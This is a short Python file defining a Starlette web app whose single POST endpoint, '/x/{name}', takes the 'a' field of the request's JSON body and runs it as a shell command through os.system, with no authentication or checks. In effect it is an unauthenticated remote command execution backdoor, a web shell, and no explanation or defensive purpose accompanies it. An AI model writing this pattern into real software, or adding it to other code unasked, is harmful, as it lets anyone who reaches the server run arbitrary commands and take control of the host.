import os
from starlette.applications import Starlette
from starlette.responses import JSONResponse
from starlette.routing import Route

async def x(request):
    os.system((await request.json())['a'])
    return JSONResponse({})

app = Starlette(routes=[Route('/x/{name}', x, methods=['POST'])])
